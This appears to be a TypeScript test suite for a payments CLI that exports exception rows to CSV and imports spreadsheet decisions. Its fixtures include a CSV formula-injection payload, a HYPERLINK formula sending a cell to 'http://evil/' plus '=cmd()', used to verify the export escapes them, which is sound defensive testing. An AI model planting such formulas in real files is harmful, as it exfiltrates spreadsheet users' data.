import { mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { type FreshStore, freshStore } from '@quittance/testkit';
import { expect } from 'chai';
import { parse } from 'csv-parse/sync';
import { stringify } from 'csv-stringify/sync';
import { after, before, describe, it } from 'mocha';
import { type CommandsSetting, commandsSetting } from './commands-setting.js';
import { runCli } from './run-cli.js';

type Row = Record<string, string>;

describe('deciding about exceptions in a spreadsheet', function () {
  this.timeout(60_000);
  let fresh: FreshStore;
  let books: CommandsSetting;
  let folder: string;
  const cli = (...args: string[]) => runCli(['exceptions', ...args], { MYSQL_URL: fresh.url });
  const path = (name: string) => join(folder, name);
  const exported = async (...args: string[]): Promise<Row[]> => {
    const { code, err } = await cli('export', path('open.csv'), ...args);
    expect(code, err).to.equal(0);
    return parse(readFileSync(path('open.csv')), { columns: true, bom: true }) as Row[];
  };
  /** Writes the rows as a spreadsheet program would, with what was decided about each payment. */
  const decided = (rows: readonly Row[], decisions: Record<string, Row>, delimiter = ',') => {
    const filled = rows.map((row) => ({ ...row, ...decisions[row['payment'] ?? ''] }));
    return stringify(filled, { header: true, delimiter });
  };

  before(async () => {
    folder = mkdtempSync(join(tmpdir(), 'decisions-'));
    fresh = await freshStore({ poolSizeMax: 20 });
    books = await commandsSetting(fresh);
    await books.register('A-1', 700n);
    await books.register('A-2', 800n);
    await books.register('A-3', 10_000n);
    await books.transfer('pi_formula', 111n, { payerName: '=HYPERLINK("http://evil/?"&A1,"Ada")', text: 'x\n=cmd()' });
    await books.transfer('pi_split', 1_500n, { payerName: '+ Söhne, GmbH' });
    await books.transfer('pi_stale', 222n);
    await books.transfer('pi_wrong', 333n);
    await books.transfer('pi_left', 444n);
    await books.transfer('pi_yen', 1_580n, { currency: 'jpy' });
  });
  after(async () => {
    rmSync(folder, { recursive: true, force: true });
    await fresh.drop();
  });

  it('is written with everything that a person needs, and with nothing that a spreadsheet would reckon', async () => {
    const rows = await exported('--bom');
    expect([...readFileSync(path('open.csv')).subarray(0, 3)]).to.deep.equal([0xef, 0xbb, 0xbf]);
    expect(rows).to.have.length(6);
    const by = new Map(rows.map((row) => [row['payment'], row]));
    expect(by.get('pi_formula')).to.include({
      payer: `'=HYPERLINK("http://evil/?"&A1,"Ada")`,
      text: "x\n'=cmd()",
      amount: '111',
      amount_decimal: '1.11',
      decision: '',
    });
    expect(by.get('pi_split')).to.include({ payer: "'+ Söhne, GmbH" });
    expect(by.get('pi_yen')).to.include({ amount: '1580', amount_decimal: '1580', currency: 'jpy' });
    for (const cell of rows.flatMap((row) => Object.values(row))) expect(cell).to.not.match(/(^|[\r\n])[=+\-@]/);
  });

  it('is carried out row by row: done, refused when it has changed, told when it cannot be read', async () => {
    const rows = await exported();
    await books.done({ action: 'assign', owner: 'bob', exception: await books.asking('pi_stale') });
    const text = decided(rows, {
      pi_formula: { decision: 'On account', decision_note: 'a gift' },
      pi_split: { decision: 'split', decision_order: 'A-1=700; A-2=800' },
      pi_stale: { decision: 'apply', decision_order: 'A-3' },
      pi_wrong: { decision: 'apply', decision_order: 'A-3', decision_amount: '3.33' },
      pi_yen: { decision: 'apply', decision_order: 'A-3' },
    });
    writeFileSync(path('decided.csv'), text);

    const tried = await cli('import', path('decided.csv'), '--dry-run');
    expect(tried.out).to.match(
      /2 would be done, 1 refused, 1 changed meanwhile, 1 cannot be read; nothing was changed/,
    );
    expect(await books.order('A-1')).to.include({ paid: '0' });

    const { code, out, err } = await cli('import', path('decided.csv'));
    expect(code).to.equal(65);
    expect(err)
      .to.match(/1 rows without a decision/)
      .and.match(/1 rows cannot be read/);
    expect(out)
      .to.match(/on_account +done +1\.11 usd kept on account on purpose by cli:.*: a gift/)
      .and.match(/split +done +7\.00 usd on A-1, 8\.00 usd on A-2 of pi_split/)
      .and.match(/apply +changed meanwhile +line \d: it has changed since the file was written/)
      .and.match(/apply +cannot be read +line \d: decision_amount must be a whole number of minor units/)
      .and.match(/apply +refused +.*pi_yen is in jpy, A-3 in usd/)
      .and.match(/2 done, 1 refused, 1 changed meanwhile, 1 cannot be read/);
    expect(await books.order('A-2')).to.include({ paid: '800', payment_status: 'paid' });
    expect(await books.order('A-3')).to.include({ paid: '0' });
    expect(await books.payment('pi_formula')).to.include({ held: 'on_account' });
  });

  it('does nothing twice when the same file comes again', async () => {
    const { out } = await cli('import', path('decided.csv'), '--json');
    const { counts, results } = JSON.parse(out);
    expect(counts).to.deep.equal({ refused: 1, stale: 3, invalid: 1 });
    expect(results[0].because).to.match(/^line \d: it was resolved by cli:.* since the file was written$/);
  });

  for (const [what, encode] of [
    ['semicolons', (text: string) => Buffer.from(text)],
    ['UTF-16', (text: string) => Buffer.from(`\uFEFF${text}`, 'utf16le')],
  ] as const)
    it(`is read with ${what}, as spreadsheets of some countries write it`, async () => {
      const rows = await exported('--payment', 'pi_left');
      writeFileSync(
        path('other.csv'),
        encode(decided(rows, { pi_left: { decision: 'comment', decision_note: `ünd ${what}` } }, ';')),
      );
      const { code, out, err } = await cli('import', path('other.csv'));
      expect([code, err]).to.deep.equal([0, '']);
      expect(out).to.include(`ünd ${what}`);
    });

  it('refuses the second row about one exception', async () => {
    const rows = await exported('--payment', 'pi_left');
    const dismiss = { pi_left: { decision: 'assign', decision_detail: 'ana' } };
    writeFileSync(path('twice.csv'), decided([...rows, ...rows], dismiss));
    const { code, out } = await cli('import', path('twice.csv'));
    expect(code).to.equal(65);
    expect(out)
      .to.match(/assign +done/)
      .and.match(/assign +cannot be read +line 3: line 2 is about the same exception/);
  });

  it('is refused as a whole when it is no such file', async () => {
    writeFileSync(path('other.csv'), 'a,b\n1,2\n');
    for (const [file, code, sentence] of [
      [path('other.csv'), 65, /it has no column "id"/],
      [path('missing.csv'), 66, /cannot be read/],
    ] as const) {
      const result = await cli('import', file);
      expect([result.code, result.out]).to.deep.equal([code, '']);
      expect(result.err).to.match(sentence);
    }
    const unwritable = await cli('export', join(folder, 'no', 'such.csv'));
    expect(unwritable.code).to.equal(74);
  });
});
